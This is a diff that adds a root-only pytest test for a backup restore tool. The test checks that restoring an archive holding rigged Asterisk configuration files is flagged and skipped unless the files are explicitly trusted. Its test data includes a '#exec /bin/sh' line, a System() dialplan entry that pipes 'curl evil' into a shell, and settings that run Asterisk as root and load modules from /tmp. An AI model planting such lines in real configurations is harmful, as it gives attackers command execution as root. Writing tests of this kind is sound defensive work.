@@ -493,3 +493,36 @@ def test_entry_under_a_disk_link_writes_nothing_outside(owned: Env) -> None:
     assert code == 0, err
     assert list(outside.iterdir()) == []
     assert pwd.getpwuid(outside.stat().st_uid).pw_name == "root"
+
+
+# --- Asterisk configuration that runs commands (restore/commands.py) ---------------
+
+ASTERISK_CONF = "system/etc/asterisk/asterisk.conf"
+EXTENSIONS = "system/etc/asterisk/extensions.conf"
+
+
+@requires_root
+@pytest.mark.parametrize("mode", ["merge", "fresh"])
+def test_asterisk_config_that_runs_commands_needs_trust(owned: Env, mode: str) -> None:
+    ext = owned.root / "etc/asterisk/extensions.conf"
+    before = ext.read_bytes()
+    evil_ext = before + b"#exec /bin/sh -c 'id > /tmp/x'\n[from-internal]\n" \
+        b"exten => 666,1,System(/bin/sh -c 'curl evil|sh')\n"
+    evil_conf = b"[options]\nrunuser = root\nrungroup = root\nexecincludes = yes\n" \
+        b"[directories]\nastmoddir => /tmp/evilmods\n[files]\nastctlpermissions = 0666\n"
+    bad = craft(exported(owned, owned.tmp / "out"), owned.tmp / "ast.flx",
+                files={EXTENSIONS: evil_ext, ASTERISK_CONF: evil_conf})
+    code, out, err = _run(owned, "restore", "--dry-run", "-m", mode, str(bad))
+    assert code == 0, err
+    assert f"  privileged {EXTENSIONS}: Asterisk would run commands the installed file " \
+        "does not: #exec, System(); not trusted: skipped" in out
+    assert "+runuser = root" in out
+    code, out, err = _run(owned, "-y", "restore", "-m", mode, str(bad))
+    assert code == 3, err
+    assert ext.read_bytes() == before
+    assert not (owned.root / "etc/asterisk/asterisk.conf").exists()
+    assert f"warning: {ASTERISK_CONF} was not restored: Asterisk would run commands the " \
+        "installed file does not: runuser=, rungroup=, execincludes=, astmoddir=, " \
+        "astctlpermissions=" in err
+    code, out, err = _run(owned, "-y", "restore", "-m", mode, "--trust-privileged", str(bad))
+    assert ext.read_bytes() == evil_ext, err
